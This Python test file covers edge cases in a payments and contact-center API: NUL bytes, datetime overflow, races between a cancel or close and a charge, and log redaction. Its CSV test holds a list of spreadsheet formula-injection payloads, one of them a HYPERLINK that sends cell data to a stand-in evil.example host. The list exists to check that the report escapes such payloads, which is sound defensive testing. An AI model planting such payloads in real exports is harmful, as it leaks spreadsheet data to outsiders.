"""Edges of the subscriptions, contact-center rules and reports found by a QA pass, on SQLite and PostgreSQL:
inputs that used to answer 500 (U+0000 in text, moments whose UTC value overflows), the CSV report's formula
escaping of customer-supplied text, races between a cancel or a close and a charge, the busy rule once the first
payment is declined, and what the logs tell an operator (with no card data and no full caller number)."""

from __future__ import annotations

import csv
import io
import logging
import threading

import pytest

from payments.models import Payment, PaymentAttempt
from tests.functional.money import VISA, events, paid, post, types
from tests.functional.test_subscriptions import charges, decline_next, renew, sub, sub_payments, subscribed
from tokenizer.gateways.sandbox import TIMEOUT_CARD

DAY = 86400
DECLINE = "4000000000000002"


def card(stack, sid, number=VISA, **extra):
    return post(stack, f"/v1/payment-sessions/{sid}/card",
                {"number": number, "exp_month": "12", "exp_year": "30", "cvc": "123", **extra})


def token_of(stack, sid) -> str:
    return stack.http.get(f"/v1/payment-sessions/{sid}", headers=stack.auth()).get_json()["token"]


def error(r, status, code) -> dict:
    body = r.get_json()
    assert r.status_code == status and body["error"]["code"] == code, (r.status_code, body)
    assert body["error"]["request_id"] == r.headers["Request-Id"]
    return body["error"]


# -- U+0000: PostgreSQL cannot store it; it used to be a DataError (500) there -------------------------------------------
def test_nul_in_a_path_parameter_is_not_found(stack):
    for path in ("/v1/payment-sessions/ps_%00", "/v1/payments/%00", "/v1/subscriptions/sub_%00",
                 "/v1/refunds/%00", "/v1/disputes/%00"):
        error(stack.http.get(path, headers=stack.auth()), 404, "not_found")
    error(post(stack, "/v1/conversations/conv%00/close"), 404, "not_found")
    error(post(stack, "/v1/subscriptions/sub_%00/cancel"), 404, "not_found")
    error(post(stack, "/v1/payment-sessions/ps_%00/amount", {"amount": "2500"}), 404, "not_found")
    # authentication still comes first
    error(stack.http.get("/v1/payments/%00"), 401, "invalid_token")


def test_nul_in_a_query_parameter_or_a_body_string_is_invalid_characters(stack):
    for path in ("/v1/payment-sessions?customer_account_id=A%00", "/v1/payments?customer_account_id=%00",
                 "/v1/subscriptions?conversation_id=c%00"):
        e = error(stack.http.get(path, headers=stack.auth()), 400, "validation_error")
        assert list(e["fields"].values()) == ["invalid_characters"], e
    body = {"conversation_id": "c\u0000", "customer_account_id": "A", "amount": 2500, "currency": "USD",
            "metadata": {"k": "v\u0000"}}
    e = error(post(stack, "/v1/payment-sessions", body), 400, "validation_error")
    assert e["fields"] == {"conversation_id": "invalid_characters", "metadata": "invalid_characters"}
    sid, _ = paid(stack)
    sub_body = {"token": token_of(stack, sid), "amount": 1999, "currency": "USD", "interval": "month",
                "customer_account_id": "A\u0000"}
    e = error(post(stack, "/v1/subscriptions", sub_body, key="k-nul"), 400, "validation_error")
    assert e["fields"] == {"customer_account_id": "invalid_characters"}
    other = stack.create_session(customer_account_id="ACME-NUL")["session_id"]
    e = error(card(stack, other, call_id="call\u0000", ani="tel:+1317555\u00000100"), 400, "validation_error")
    assert e["fields"] == {"call_id": "invalid_characters", "ani": "invalid_characters"}
    assert "4242" not in str(e)
    with stack.services.Session() as db:
        assert db.query(PaymentAttempt).filter_by(session_id=other).count() == 0
    assert card(stack, other, call_id="call-1").get_json()["outcome"] == "approved"  # the same card, clean


# -- moments whose UTC value is outside years 1..9999 ------------------------------------------------------------------
@pytest.mark.parametrize("moment", ["9999-12-31T23:00:00-05:00", "0001-01-01T00:00:00+05:00"])
def test_moments_that_overflow_in_utc_are_invalid_datetime(stack, moment):
    sid, _ = paid(stack)
    body = {"token": token_of(stack, sid), "amount": 1999, "currency": "USD", "interval": "month",
            "customer_account_id": "A", "start_at": moment}
    e = error(post(stack, "/v1/subscriptions", body, key="k-" + moment), 400, "validation_error")
    assert e["fields"] == {"start_at": "invalid_datetime"}
    encoded = moment.replace("+", "%2B")
    for path in ("/v1/payments", "/v1/payment-sessions", "/v1/subscriptions", "/v1/reports/payments.csv"):
        e = error(stack.http.get(f"{path}?created_after={encoded}", headers=stack.auth()), 400, "validation_error")
        assert e["fields"] == {"created_after": "invalid_datetime"}, path
        e = error(stack.http.get(f"{path}?created_before={encoded}", headers=stack.auth()), 400, "validation_error")
        assert e["fields"] == {"created_before": "invalid_datetime"}, path
    # the last representable moments are still fine
    r = stack.http.get("/v1/reports/payments.csv?created_after=0001-01-01T00:00:00Z"
                       "&created_before=9999-12-31T23:59:59Z", headers=stack.auth())
    assert r.status_code == 200 and len(r.get_data(as_text=True).splitlines()) == 2


# -- the CSV report and formula injection ------------------------------------------------------------------------------
def test_customer_supplied_text_cannot_become_a_spreadsheet_formula(stack):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
    for n, text in enumerate(hostile):
        paid(stack, reference=text[:64], customer_account_id=text, conversation_id=text)
        paid(stack, reference=f"SAFE-{n}", customer_account_id=f"ACME-{n}", conversation_id=f"conv-{n}")
    r = stack.http.get("/v1/reports/payments.csv", headers=stack.auth())
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True), newline="")))
    assert len(rows) == 2 * len(hostile)
    seen = set()
    for row in rows:
        for column in ("reference", "customer_account_id", "conversation_id"):
            cell = row[column]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            if cell.startswith("'"):
                seen.add(cell[1:])
        assert row["amount"] == "2500" and row["amount_decimal"] == "25.00"  # numbers are left alone
    assert seen == set(hostile)
    assert {row["reference"] for row in rows} >= {f"SAFE-{n}" for n in range(len(hostile))}  # plain text unchanged
    assert "4242424242424242" not in r.get_data(as_text=True)


# -- races and the busy rule -------------------------------------------------------------------------------------------
class HeldCharges:
    """Holds the gateway's merchant-initiated charges until released, to line a cancel up with one in flight."""

    def __init__(self, gateway):
        self.entered = threading.Event()
        self.release = threading.Event()
        original = gateway.charge_saved_card

        def held(request):
            self.entered.set()
            assert self.release.wait(30)
            return original(request)

        gateway.charge_saved_card = held


def test_a_cancel_while_a_renewal_is_with_the_gateway_keeps_the_subscription_canceled(stack):
    _, first, sub_id = subscribed(stack)
    stack.clock.advance(31 * DAY)
    held = HeldCharges(stack.services.gateway)
    ticked = []
    worker = threading.Thread(target=lambda: ticked.append(renew(stack)))
    worker.start()
    assert held.entered.wait(30)
    r = post(stack, f"/v1/subscriptions/{sub_id}/cancel")  # the charge is already with the gateway
    assert r.status_code == 200 and r.get_json()["status"] == "canceled"
    held.release.set()
    worker.join(30)
    assert ticked == [1]
    s = sub(stack, sub_id)
    assert (s["status"], s["cancel_reason"], s["next_charge_at"]) == ("canceled", "requested", None)
    renewals = [p for p in sub_payments(stack, sub_id) if p["payment_id"] != first]
    assert len(renewals) == 1 and renewals[0]["status"] == "captured"  # recorded: the money was taken
    assert s["last_payment_id"] == renewals[0]["payment_id"]
    assert types(stack, sub_id) == ["subscription.created", "subscription.canceled"]  # no "renewed" after cancel
    before = charges(stack)
    stack.clock.advance(62 * DAY)
    assert renew(stack) == 0 and charges(stack) == before


def test_decline_next_on_a_token_two_subscriptions_share_declines_only_the_next_charge(stack):
    sid, _ = paid(stack)
    token = token_of(stack, sid)
    ids = []
    for key in ("a", "b"):
        r = post(stack, "/v1/subscriptions", {"token": token, "amount": 1000, "currency": "USD", "interval": "month",
                                              "customer_account_id": "ACME-1"}, key=f"shared-{key}")
        assert r.status_code == 201 and r.get_json()["status"] == "active", r.get_json()
        ids.append(r.get_json()["subscription_id"])
    assert decline_next(stack, token, 1).get_json() == {"token": token, "count": 1,
                                                        "decline_code": "insufficient_funds"}
    stack.clock.advance(31 * DAY)
    assert renew(stack) == 2
    statuses = sorted(sub(stack, i)["status"] for i in ids)
    assert statuses == ["active", "past_due"]  # the token's next charge, whichever subscription made it
    stack.clock.advance(DAY)
    assert renew(stack) == 1
    assert [sub(stack, i)["status"] for i in ids] == ["active", "active"]


def test_closing_a_conversation_while_a_card_is_submitted_never_charges_a_canceled_session(stack):
    for round_ in range(6):
        conv = f"conv-race-{round_}"
        sid = stack.create_session(conversation_id=conv, customer_account_id=f"ACME-R{round_}")["session_id"]
        barrier = threading.Barrier(2)
        answers = {}

        def submit():
            client = stack.app.test_client()
            barrier.wait()
            answers["card"] = client.post(f"/v1/payment-sessions/{sid}/card", headers=stack.auth(), json={
                "number": VISA, "exp_month": "12", "exp_year": "30", "cvc": "123"})

        def close():
            client = stack.app.test_client()
            barrier.wait()
            answers["close"] = client.post(f"/v1/conversations/{conv}/close", headers=stack.auth(), json={})

        threads = [threading.Thread(target=submit), threading.Thread(target=close)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(30)
        assert answers["card"].status_code == 200 and answers["close"].status_code == 200
        closed = answers["close"].get_json()
        final = stack.http.get(f"/v1/payment-sessions/{sid}", headers=stack.auth()).get_json()
        with stack.services.Session() as db:
            paid_rows = db.query(Payment).filter_by(session_id=sid).all()
        if final["status"] == "canceled":
            assert closed["canceled"] == [sid] and final["cancel_reason"] == "conversation_ended"
            assert paid_rows == [] and answers["card"].get_json()["outcome"] != "approved"
        else:  # the card won: the close left it to finish
            assert final["status"] == "approved" and closed["canceled"] == [] and len(paid_rows) == 1
            assert final["cancel_reason"] is None


def test_a_declined_first_session_does_not_make_the_customer_busy(stack):
    first = stack.create_session(customer_account_id="ACME-DECLINED")["session_id"]
    answer = card(stack, first, DECLINE).get_json()
    assert answer["outcome"] == "declined" and answer["status"] == "pending"  # back to pending, attempts left
    second = stack.create_session(customer_account_id="ACME-DECLINED", conversation_id="conv-2")["session_id"]
    assert card(stack, second).get_json()["outcome"] == "approved"
    # and the first may still be paid afterwards
    assert card(stack, first).get_json()["outcome"] == "approved"


# -- what an operator reads ---------------------------------------------------------------------------------------------
def records(caplog, message_part):
    return [r for r in caplog.records if message_part in r.getMessage()]


def test_the_logs_tell_renewals_failures_busy_and_closes_without_card_data_or_caller_numbers(stack, caplog):
    caplog.set_level(logging.INFO)
    _, _, sub_id = subscribed(stack)
    stack.clock.advance(31 * DAY)
    assert renew(stack) == 1
    (renewed,) = records(caplog, "subscription charge approved")
    assert (renewed.subscription_id, renewed.period, renewed.subscription_status) == (sub_id, 2, "active")
    assert renewed.payment_id == sub(stack, sub_id)["last_payment_id"]

    token = sub(stack, sub_id)["token"]
    decline_next(stack, token, 4, decline_code="insufficient_funds")
    stack.clock.advance(31 * DAY)
    assert renew(stack) == 1
    (failed,) = records(caplog, "retried on schedule")
    assert (failed.subscription_id, failed.period, failed.decline_code, failed.failed_attempts) == (
        sub_id, 3, "insufficient_funds", 1)
    assert failed.next_charge_at == sub(stack, sub_id)["next_charge_at"]
    for _ in range(3):
        stack.clock.advance(5 * DAY)
        renew(stack)
    (gave_up,) = records(caplog, "canceled after its last failed charge")
    assert gave_up.levelno == logging.WARNING and gave_up.subscription_status == "canceled"

    # busy: a session held processing by the sandbox timeout card
    held = stack.create_session(customer_account_id="ACME-LOG")["session_id"]
    assert card(stack, held, TIMEOUT_CARD, ani="tel:+13175550100").get_json()["outcome"] == "processing"
    waiting = stack.create_session(customer_account_id="ACME-LOG", conversation_id="conv-log")["session_id"]
    assert card(stack, waiting, ani="+13175550100").get_json()["outcome"] == "busy"
    (busy,) = records(caplog, "(busy)")
    assert (busy.session_id, busy.source) == (waiting, "voice")

    closed = post(stack, "/v1/conversations/conv-log/close").get_json()
    assert closed == {"canceled": [waiting], "processing": []}
    (close_line,) = records(caplog, "conversation closed")
    assert (close_line.conversation_id, close_line.canceled, close_line.processing) == ("conv-log", [waiting], [])

    text = "\n".join(f"{r.getMessage()} {r.__dict__}" for r in caplog.records)
    assert "4242424242424242" not in text and TIMEOUT_CARD not in text
    assert "3175550100" not in text  # the caller's number is not logged
    assert "'cvc'" not in text and '"cvc"' not in text
    for _, body in events(stack, sub_id):
        assert "4242424242424242" not in str(body)


def test_decline_next_for_a_card_the_sandbox_forgot_is_404_not_500(stack):
    sid, _ = paid(stack)
    token = token_of(stack, sid)
    for key in stack.services.redis.scan_iter("paygate:sandbox:*"):  # the sandbox's Redis state is gone
        stack.services.redis.delete(key)
    r = decline_next(stack, token, 1)
    assert r.status_code == 404 and r.get_json()["error"]["code"] == "token_not_found"
